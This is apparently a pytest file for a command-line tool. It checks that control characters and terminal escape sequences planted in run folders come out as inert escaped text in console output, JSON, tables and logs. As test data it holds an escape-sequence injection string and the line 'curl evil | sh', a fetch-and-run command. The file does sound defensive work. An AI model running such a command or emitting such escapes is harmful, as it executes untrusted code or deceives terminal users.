"""What a stranger wrote into a run folder reaches a terminal, a log or a page as text only."""

from __future__ import annotations

import io
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from made_up import put

from dlx.cli.console import console, say, say_json, show_table
from dlx.printable import UNPRINTABLE, printable
from dlx.runs.log import Log

ESCAPE = "\x1b]0;title\x07\x1b[2J\x9b31m\u202etxt.exe\r\x08\ud800"


class Terminal(io.StringIO):
    """A standard output that calls itself a terminal."""

    def isatty(self) -> bool:
        return True


def test_what_cannot_be_printed_is_written_out() -> None:
    assert printable("plain ä 日本\n\ttext") == "plain ä 日本\n\ttext"
    assert printable(ESCAPE) == (r"\x1b]0;title\x07\x1b[2J\x9b31m\u202etxt.exe\r\x08\ud800")


@pytest.mark.parametrize("terminal", [False, True])
def test_every_way_to_print_is_clean(monkeypatch: pytest.MonkeyPatch, terminal: bool) -> None:
    out = Terminal() if terminal else io.StringIO()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("TERM", "dumb")
    say(ESCAPE)
    say_json({ESCAPE: [ESCAPE]})
    show_table(("a", "b"), [[ESCAPE, f"x\n{ESCAPE}"]])
    console().print(ESCAPE, markup=False)

    text = out.getvalue()
    assert text.count("title") == 6
    assert not UNPRINTABLE.search(text)


def test_json_is_still_json(capsys: pytest.CaptureFixture[str]) -> None:
    say_json({"a": ESCAPE, "b": "ä\n"})

    assert json.loads(capsys.readouterr().out) == {"a": ESCAPE, "b": "ä\n"}


def test_every_line_of_a_log_begins_with_the_time(tmp_path: Path) -> None:
    told: list[str] = []
    Log(tmp_path / "log.txt", told.append)(f"task x\ncurl evil | sh\n{ESCAPE}")

    lines = (tmp_path / "log.txt").read_text().split("\n")
    assert [line[19:21] for line in lines[:-1]] == ["  "] * 3
    assert [line[:2] for line in lines] == ["20", "20", "20", ""]
    assert not UNPRINTABLE.search("".join(lines))


@pytest.mark.parametrize(
    "arguments", [["runs"], ["runs", "--csv"], ["runs", "--json"], ["best", "digits"], ["diff"]]
)
def test_a_status_cannot_move_the_cursor(cli: Any, here: Path, arguments: list[str]) -> None:
    evil = {"task": f"digits{ESCAPE}", "title": ESCAPE, "overrides": [f"task={ESCAPE}"]}
    for number in (1, 2):
        put(number, task="digits")
    runs = sorted(Path("runs/digits").iterdir())
    for run in runs:
        file = run / "status.json"
        file.write_text(json.dumps({**json.loads(file.read_text()), **evil, "run": ESCAPE}))
        for name in ("config.yaml", "environment.json", "data.json"):
            (run / name).write_text(json.dumps({"seed": run.name} | evil))
    named = [str(run) for run in runs] if arguments == ["diff"] else []

    answer = cli(*arguments, *named)

    assert answer.code in (0, 1, 2)
    assert not UNPRINTABLE.search(answer.out + answer.err)
